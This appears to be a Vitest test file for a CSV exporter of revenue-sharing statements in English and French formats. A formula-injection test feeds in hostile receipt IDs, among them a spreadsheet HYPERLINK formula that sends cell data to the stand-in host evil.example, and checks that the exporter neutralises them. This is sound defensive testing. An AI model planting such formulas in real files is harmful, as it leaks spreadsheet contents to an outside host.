import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { statementCsv, statementForPeriod } from '../../src/documents/index.js';
import { money } from '../../src/money/money.js';
import { settle } from '../../src/money/settle.js';
import { codeOf, pathsOf } from '../money/arbitraries.js';
import { webDays } from './demo.js';
import { malformedPeriods, marchJson } from './_period.js';
import { thrown } from '../utils/thrown.js';

const march = () => statementForPeriod(webDays().statement, { from: '2026-03', to: '2026-03' });

const EN = [
  'period from,period to,currency,breakeven,recovered,uncovered,due to the organizer',
  '2026-03-01,2026-03-31,EUR,3000.00,3000.00,0.00,785.15',
  ',,,,,,',
  'stream,figure,prior,this period,cumulative,,',
  'sponsorship,received,1500.00,2800.00,4300.00,,',
  'sponsorship,to breakeven,1500.00,1500.00,3000.00,,',
  'sponsorship,platform,1500.00,2150.00,3650.00,,',
  'sponsorship,organizer,0.00,650.00,650.00,,',
  'pay-per-view,received,0.00,450.50,450.50,,',
  'pay-per-view,to breakeven,0.00,0.00,0.00,,',
  'pay-per-view,platform,0.00,315.35,315.35,,',
  'pay-per-view,organizer,0.00,135.15,135.15,,',
  'total,received,1500.00,3250.50,4750.50,,',
  'total,to breakeven,1500.00,1500.00,3000.00,,',
  'total,platform,1500.00,2465.35,3965.35,,',
  'total,organizer,0.00,785.15,785.15,,',
  ',,,,,,',
  'receipt,stream,received at,received,to breakeven,platform,organizer',
  'spons-bigdata,sponsorship,2026-03-02T10:15:00+01:00,2800.00,1500.00,2150.00,650.00',
  'ppv-march,pay-per-view,2026-03-31,450.50,0.00,315.35,135.15',
];

const FR = [
  "période du;au;devise;point mort;recouvré;non couvert;dû à l'organisateur",
  '2026-03-01;2026-03-31;EUR;3000,00;3000,00;0,00;785,15',
  ';;;;;;',
  'flux;poste;antérieur;cette période;cumul;;',
  'sponsoring;reçu;1500,00;2800,00;4300,00;;',
  'sponsoring;au point mort;1500,00;1500,00;3000,00;;',
  'sponsoring;plateforme;1500,00;2150,00;3650,00;;',
  'sponsoring;organisateur;0,00;650,00;650,00;;',
  'pay-per-view;reçu;0,00;450,50;450,50;;',
  'pay-per-view;au point mort;0,00;0,00;0,00;;',
  'pay-per-view;plateforme;0,00;315,35;315,35;;',
  'pay-per-view;organisateur;0,00;135,15;135,15;;',
  'total;reçu;1500,00;3250,50;4750,50;;',
  'total;au point mort;1500,00;1500,00;3000,00;;',
  'total;plateforme;1500,00;2465,35;3965,35;;',
  'total;organisateur;0,00;785,15;785,15;;',
  ';;;;;;',
  'recette;flux;reçu le;reçu;au point mort;plateforme;organisateur',
  'spons-bigdata;sponsoring;2026-03-02T10:15:00+01:00;2800,00;1500,00;2150,00;650,00',
  'ppv-march;pay-per-view;2026-03-31;450,50;0,00;315,35;135,15',
];

const file = (lines: readonly string[]) => `\uFEFF${lines.join('\r\n')}\r\n`;

describe('statementCsv', () => {
  it("writes the demo's March in English: `,`, a decimal point, a BOM and CRLF", () => {
    expect(statementCsv(march())).toBe(file(EN));
    expect(statementCsv(march(), { locale: 'en' })).toBe(file(EN));
  });

  it("writes the demo's March in French: `;` and a decimal comma, as French Excel reads them", () => {
    expect(statementCsv(march(), { locale: 'fr' })).toBe(file(FR));
  });

  it('reads back with csv-parse, cell for cell, in a rectangle of 7 columns', () => {
    for (const [locale, lines, delimiter] of [['en', EN, ','], ['fr', FR, ';']] as const) {
      const rows = parse(statementCsv(march(), { locale }), { bom: true, delimiter }) as string[][];
      expect(rows).toEqual(lines.map((line) => line.split(delimiter)));
      expect(rows.every((row) => row.length === 7)).toBe(true);
    }
  });

  describe('formula injection', () => {
    const hostile = () => {
      const eur = (amount: string) => money(amount, 'EUR');
      const statement = settle({ breakeven: eur('0') }, [
        { id: '=HYPERLINK("http://evil.example/?"&A1,"click")', stream: 'sponsorship', amount: eur('100'), receivedAt: '2026-03-01' },
        { id: '-50.00', stream: 'sponsorship', amount: eur('-50'), receivedAt: '2026-03-02' },
        { id: '+1', stream: 'sponsorship', amount: eur('1'), receivedAt: '2026-03-03' },
        { id: '@SUM(A1)', stream: 'sponsorship', amount: eur('1'), receivedAt: '2026-03-04' },
        { id: '\tx', stream: 'sponsorship', amount: eur('1'), receivedAt: '2026-03-05' },
        { id: '\rx;y', stream: 'sponsorship', amount: eur('1'), receivedAt: '2026-03-06' },
        { id: 'a=b', stream: 'sponsorship', amount: eur('1'), receivedAt: '2026-03-07' },
      ]);
      return statementForPeriod(statement, { from: '2026-03', to: '2026-03' });
    };

    it('prefixes with `\'` a text cell starting with =, +, -, @, tab or CR, and keeps negative amounts numbers', () => {
      for (const [locale, delimiter] of [['en', ','], ['fr', ';']] as const) {
        const rows = parse(statementCsv(hostile(), { locale }), { bom: true, delimiter }) as string[][];
        const receipts = rows.slice(-7);
        expect(receipts.map((row) => row[0])).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'-50.00", "'+1", "'@SUM(A1)", "'\tx", "'\rx;y", 'a=b']);
        expect(receipts[1]!.slice(3)).toEqual(locale === 'en' ? ['-50.00', '0.00', '-25.00', '-25.00'] : ['-50,00', '0,00', '-25,00', '-25,00']);
      }
    });

    it('quotes the cells that hold the delimiter, a quote or a line break', () => {
      const text = statementCsv(hostile());
      expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",sponsorship,2026-03-01,100.00');
      expect(text).toContain('\r\n\'-50.00,sponsorship,2026-03-02,-50.00,0.00,-25.00,-25.00\r\n');
      expect(statementCsv(hostile(), { locale: 'fr' })).toContain('\r\n"\'\rx;y";sponsoring;');
    });
  });

  it('refuses unknown options and locales, naming the field', () => {
    expect(codeOf(() => statementCsv(march(), { locale: 'de' } as never))).toBe('invalid_locale');
    expect(pathsOf(() => statementCsv(march(), { locale: 'fr', delimiter: ';' } as never))).toEqual(['options.delimiter']);
    expect(codeOf(() => statementCsv(march(), 'fr' as never))).toBe('invalid_options');
  });

  it('writes a period read back from JSON as the period itself', () => {
    expect(statementCsv(marchJson(), { locale: 'fr' })).toBe(file(FR));
  });

  it.each(malformedPeriods())('refuses a period statement with %s: statement_malformed at its path, never a TypeError', (_what, period, path) => {
    const error = thrown(() => statementCsv(period as never));
    expect([error.code, error.issues.map((issue) => issue.path)]).toEqual(['statement_malformed', [path]]);
  });
});
